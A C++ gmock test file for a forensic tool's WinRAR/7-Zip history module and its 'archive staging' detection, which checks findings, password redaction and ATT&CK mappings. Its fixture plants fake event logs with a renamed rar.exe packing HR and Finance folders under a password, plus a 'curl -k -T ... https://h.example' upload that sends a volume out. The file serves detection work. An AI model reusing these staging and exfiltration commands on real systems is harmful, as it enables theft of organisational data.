// What archivers remember, and the story of what was packed.
#include <gmock/gmock.h>

#include "tests/builders/prefetch_builder.h"
#include "tests/modules/packing_cases.h"

namespace hozen {
namespace modules {
extern const ModuleSpec event_logs, muicache, prefetch, winrar;
}  // namespace modules
namespace {

using fake::at;
using ::testing::Contains;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::Not;
using ::testing::SizeIs;

constexpr std::uint64_t kMiB = 1U << 20U;

// ---- the registry

fake::Data texts(std::u16string_view joined) {
  std::vector<std::byte> bytes;
  for (const char16_t unit : joined) {
    bytes.push_back(static_cast<std::byte>(unit & 0xFFU));
    bytes.push_back(static_cast<std::byte>(unit >> 8U));
  }
  return fake::binary(std::move(bytes));
}

class WinRarHistory : public testing::Test {
 protected:
  WinRarHistory() { windows.user("eve"); }
  std::vector<const fake::Record*> history() {
    run = run_module(modules::winrar, windows);
    return records_of(run, "archiver_history");
  }
  fake::FakeWindows windows;
  ModuleRun run;
  const std::string root = "HKU\\eve\\Software\\WinRAR";
};

TEST_F(WinRarHistory, TellsArchivesAndNamesInTheirOrder) {
  windows.value(root + "\\ArcHistory", "0", fake::sz("C:\\PerfLogs\\1.rar"), at(5));
  windows.value(root + "\\ArcHistory", "1", fake::sz("C:\\old.zip"), at(5));
  windows.value(root + "\\DialogEditHistory\\ArcName", "0", fake::sz("1.rar"), at(6));
  windows.value(root + "\\DialogEditHistory\\ExtrPath", "0", fake::sz("C:\\T"), at(7));
  windows.value("HKU\\eve\\Software\\WinRAR SFX", "C%%T", fake::sz("C:\\T"), at(8));
  EXPECT_THAT(history(), SizeIs(5));
  const auto* newest = run.context->record({{"entry", "C:\\PerfLogs\\1.rar"}});
  ASSERT_NE(newest, nullptr);
  EXPECT_EQ((*newest)["program"], "WinRAR");
  EXPECT_EQ((*newest)["list"], "ArcHistory");
  EXPECT_EQ((*newest)["proves"], "archive_opened");
  EXPECT_EQ((*newest)["position"], "0");
  EXPECT_EQ((*newest)["deleted"], "false");
  EXPECT_EQ(newest->user_name, "eve");
  EXPECT_EQ(time_of(*newest, "used"), at(5));
  const auto* older = run.context->record({{"entry", "C:\\old.zip"}});
  ASSERT_NE(older, nullptr);
  EXPECT_FALSE(time_of(*older, "used").is_set());
  EXPECT_EQ(time_of(*older, "key_last_written"), at(5));
  EXPECT_EQ((*run.context->record({{"list", "DialogEditHistory\\ExtrPath"}}))["proves"],
            "folder_given");
  run.context->stated.settle();
  const auto facts = run.context->stated.facts(FactKind::archive_trace);
  ASSERT_EQ(facts.size(), 3U);
  EXPECT_EQ(facts.back().subject, "1.rar");
  EXPECT_EQ(facts.back().values["source"], "winrar");
  EXPECT_EQ(facts.back().values["user"], "eve");
  EXPECT_EQ(facts.back().values["order"], "0");
  EXPECT_EQ(facts.back().time, at(6));
}

TEST_F(WinRarHistory, TellsListsOfSevenZip) {
  const std::string zip = "HKU\\eve\\Software\\7-Zip\\";
  windows.value(zip + "Compression", "ArcHistory",
                texts(std::u16string_view{u"C:\\a.7z\0C:\\\u8CC7.7z\0", 16}), at(5));
  windows.value(zip + "Extraction", "PathHistory", texts(std::u16string_view{u"C:\\T\\\0", 6}));
  windows.value(zip + "FM", "FolderHistory", texts(u"C:\\U\\"));  // no NUL at its end
  windows.value(zip + "FM", "PanelPath0", fake::sz("C:\\P\\"));
  windows.value(zip + "FM", "ListMode", fake::dword(1));
  const auto found = history();
  ASSERT_EQ(found.size(), 4U);
  EXPECT_EQ((*found[0])["entry"], "C:\\a.7z");
  EXPECT_EQ((*found[0])["list"], "Compression\\ArcHistory");
  EXPECT_EQ(time_of(*found[0], "used"), at(5));
  EXPECT_EQ((*found[1])["entry"], "C:\\\xE8\xB3\x87.7z");
  EXPECT_EQ((*found[1])["position"], "1");
  EXPECT_EQ((*found[2])["proves"], "folder_given");
  EXPECT_EQ((*found[3])["entry"], "C:\\U\\");
  EXPECT_THAT(records_of(run, "archiver_setting"), SizeIs(1));
}

TEST_F(WinRarHistory, SettingsNeverTellPasswords) {
  windows.value(root + "\\Profiles\\3", "Name", fake::sz("take"));
  windows.value(root + "\\Profiles\\3", "PasswordData", fake::sz("S3cr#t"));
  windows.value(root + "\\Profiles\\3", "CmdSwitches", fake::sz("-s -hpS3cr#t"));
  windows.value(root + "\\Profiles\\3", "Method", fake::dword(3));          // as always
  windows.value(root + "\\Profiles\\3", "WipeIfPassword", fake::dword(1));  // a choice
  windows.value(root + "\\Profiles\\3", "VolumeSize", fake::dword(0));
  windows.value(root + "\\Profiles\\4", "PasswordData", fake::binary({std::byte{0}}));
  windows.value(root + "\\Passwords", "1", fake::binary({std::byte{0x53}}));
  windows.value(root + "\\General", "LastFolder", fake::sz("C:\\HR"));
  windows.value("HKLM\\SOFTWARE\\WinRAR", "exe64",
                fake::sz("C:\\Program Files\\WinRAR\\WinRAR.exe"));
  EXPECT_THAT(history(), IsEmpty());
  EXPECT_THAT(records_of(run, "archiver_setting"), SizeIs(6));
  const auto* secret = run.context->record({{"name", "PasswordData"}});
  ASSERT_NE(secret, nullptr);
  EXPECT_EQ((*secret)["key"], "Profiles\\3");
  EXPECT_EQ((*secret)["is_secret"], "true");
  EXPECT_EQ(secret->json_of("value"), "null");
  for (const auto& record : run.context->records)
    EXPECT_THAT(record.json, Not(HasSubstr("S3cr#t")));
  EXPECT_EQ((*run.context->record({{"name", "1"}}))["is_secret"], "true");
  EXPECT_NE(run.context->record({{"name", "exe64"}}), nullptr);
  EXPECT_THAT(run.context->findings, IsEmpty());
}

TEST_F(WinRarHistory, FindsEntriesThatWereDeleted) {
  windows.value(root + "\\ArcHistory", "0", fake::sz("C:\\kept.rar"));
  windows.deleted_value(root + "\\ArcHistory", "1", fake::sz("C:\\PerfLogs\\gone.rar"));
  history();
  const auto* gone = run.context->record({{"entry", "C:\\PerfLogs\\gone.rar"}});
  ASSERT_NE(gone, nullptr);
  EXPECT_EQ((*gone)["deleted"], "true");
  EXPECT_EQ(gone->user_name, "eve");
}

TEST_F(WinRarHistory, AProgramOfWinRarInATemporaryFolderIsToldLow) {
  windows.value(root + "\\Viewer", "ExternalViewer", fake::sz("\"C:\\Users\\Public\\v.exe\" %1"));
  windows.value(root + "\\VirusScan", "Name", fake::sz("C:\\Program Files\\AV\\scan.exe"));
  history();
  ASSERT_THAT(run.context->findings, SizeIs(1));
  EXPECT_EQ(run.context->findings[0].rule, "winrar.external_program");
  EXPECT_EQ(run.context->findings[0].subject, "C:\\Users\\Public\\v.exe");
  EXPECT_EQ(severity_of(run.context->findings[0]), Severity::low);
}

// ---- the story

/// A user renames rar.exe, packs three folders with -hp and -v, deletes two volumes, uploads one.
class BuiltCase : public testing::Test {
 protected:
  static constexpr const char* kFolder = "C:\\PerfLogs\\";
  BuiltCase() {
    windows.user("eve");
    windows.value("HKU\\eve_Classes\\Local Settings\\Software\\Microsoft\\Windows\\Shell\\MuiCache",
                  "C:\\PerfLogs\\svch.exe.FriendlyAppName", fake::sz("Command line RAR"));
    builders::PrefetchBuilder prefetch{30};
    prefetch.program("\\VOLUME{01d5}\\PERFLOGS\\SVCH.EXE", "SVCH.EXE")
        .file("\\VOLUME{01d5}\\PERFLOGS\\1.PART1.RAR")
        .run(time(1));
    windows.file("C:\\Windows\\Prefetch\\SVCH.EXE-11111111.pf", "").bytes = prefetch.bytes();
    builders::EvtxBuilder log;
    log.event(text_event("Security", 4688, 0,
                         {{"SubjectUserName", "eve"},
                          {"SubjectDomainName", "PC"},
                          {"NewProcessName", "C:\\PerfLogs\\svch.exe"},
                          {"CommandLine",
                           "svch.exe a -r -hpS3cr#t -v100m -m5 C:\\PerfLogs\\1.rar C:\\HR "
                           "\\\\srv\\c$\\Finance D:\\Plans"}}))
        .event(text_event(
            "Security", 4688, 3600,
            {{"SubjectUserName", "eve"},
             {"SubjectDomainName", "PC"},
             {"NewProcessName", "C:\\Windows\\System32\\curl.exe"},
             {"CommandLine", "curl -k -T C:\\PerfLogs\\1.part3.rar https://h.example"}}));
    windows.file("C:\\Windows\\System32\\winevt\\Logs\\Security.evtx", "").bytes = log.bytes();
  }
  static FileTime time(std::int64_t seconds) {
    return FileTime{133'000'000'000'000'000 +
                    static_cast<std::uint64_t>(seconds) * kTicksPerSecond};
  }
  static std::string volume(std::int64_t number) {
    return kFolder + std::string{"1.part"} + std::to_string(number) + ".rar";
  }

  /// `with_journal`: false as on a host whose journal is gone.
  void judge(bool with_journal = true) {
    run = {windows.machine(), nullptr};
    run.context = std::make_unique<fake::Context>(run.machine);
    for (const ModuleSpec* module :
         {&modules::event_logs, &modules::muicache, &modules::prefetch, &modules::winrar})
      EXPECT_TRUE(module->run(*run.context));
    FactStore& facts = run.context->stated;
    for (std::int64_t i = 1; with_journal && i <= 4; ++i)
      facts.add(
          usn_fact("created", time(i * 10), volume(i), {{"closed", time(i * 10 + 9).iso8601()}}));
    for (std::int64_t i = 1; with_journal && i <= 2; ++i)
      facts.add(
          usn_fact("deleted", time(7200 + i), volume(i), {{"created", time(i * 10).iso8601()}}));
    for (std::int64_t i = 3; i <= 4; ++i)
      facts.add(archive_fact(
          time(i * 10), volume(i), i == 3 ? 100 * kMiB : 5 * kMiB,
          {{"encrypted", "headers"}, {"volume", "1"}, {"volume_number", std::to_string(i - 1)}}));
    facts.settle();
    EXPECT_TRUE(modules::winrar.judge(*run.context));
  }
  const Finding& only() {
    EXPECT_EQ(run.context->findings.size(), 1U) << fake::summary_of(run.context->findings);
    return run.context->findings.at(0);
  }

  fake::FakeWindows windows;
  ModuleRun run;
};

TEST_F(BuiltCase, OneFindingTellsTheWholeStory) {
  judge();
  const Finding& finding = only();
  EXPECT_EQ(finding.rule, "winrar.staging");
  EXPECT_EQ(severity_of(finding), Severity::critical);
  const std::string story = story_of(finding);
  // By whom, from where, into what.
  EXPECT_THAT(
      story,
      HasSubstr("PC\\eve gave the command to pack C:\\HR, \\\\srv\\c$\\Finance, D:\\Plans into "
                "C:\\PerfLogs\\1.rar at " +
                time(0).iso8601()));
  EXPECT_THAT(story, HasSubstr("It packs files of another host: \\\\srv\\c$\\Finance."));
  // With what.
  EXPECT_THAT(story, HasSubstr("C:\\PerfLogs\\svch.exe is RAR by its version resource"));
  EXPECT_THAT(story,
              HasSubstr("SVCH.EXE ran at " + time(1).iso8601() + " (prefetch, 1 runs in all)"));
  EXPECT_THAT(story, HasSubstr("SVCH.EXE read or wrote \\VOLUME{01d5}\\PERFLOGS\\1.PART1.RAR"));
  // How.
  EXPECT_THAT(story, HasSubstr("encrypts the names in the archive"));
  EXPECT_THAT(story, HasSubstr("volumes of 104857600 bytes"));
  EXPECT_THAT(story, HasSubstr("has encrypted names"));
  // What there is, what is gone.
  EXPECT_THAT(story, HasSubstr("It has 4 volumes; there are 1.part3.rar (104857600 bytes), "
                               "1.part4.rar (5242880 bytes), 110100480 bytes in all"));
  EXPECT_THAT(story, HasSubstr("1.part1.rar, made at " + time(10).iso8601() + ", deleted at " +
                               time(7201).iso8601()));
  EXPECT_THAT(story, HasSubstr("1.part2.rar, made at " + time(20).iso8601()));
  // What became of it.
  EXPECT_THAT(
      story, HasSubstr("A command was given that sends it away with curl to https://h.example at " +
                       time(3600).iso8601() + " by PC\\eve"));
  // When.
  EXPECT_THAT(story, HasSubstr("The evidence of it is of " + time(0).iso8601() + " to " +
                               time(49).iso8601() + "."));
  EXPECT_THAT(all_of(finding), Not(HasSubstr("S3cr#t")));
  for (const char* technique : {"T1560.001", "T1074.001", "T1036.003", "T1070.004", "T1041"})
    EXPECT_THAT(finding.attack, Contains(technique));
  EXPECT_THAT(finding.why, SizeIs(::testing::Ge(10U)));
}

TEST_F(BuiltCase, WithoutTheJournalVolumesAreMissingByTheirNumbers) {
  judge(false);
  const Finding& finding = only();
  EXPECT_THAT(story_of(finding), HasSubstr("these numbers are missing: 1, 2"));
  EXPECT_THAT(story_of(finding), Not(HasSubstr("eleted within")));
  EXPECT_THAT(finding.not_checked, Contains(HasSubstr("no change journal was read")));
}

TEST_F(BuiltCase, WithoutAnyCommandTheVolumesAndTheProgramTellIt) {
  windows.file("C:\\Windows\\System32\\winevt\\Logs\\Security.evtx", "").bytes =
      builders::EvtxBuilder{}.bytes();
  judge();
  const Finding& finding = only();
  EXPECT_GE(severity_of(finding), Severity::high);
  EXPECT_THAT(story_of(finding), HasSubstr("is RAR by its version resource"));
  EXPECT_THAT(finding.not_checked, Contains(HasSubstr("Whether it left this host")));
}

}  // namespace
}  // namespace hozen
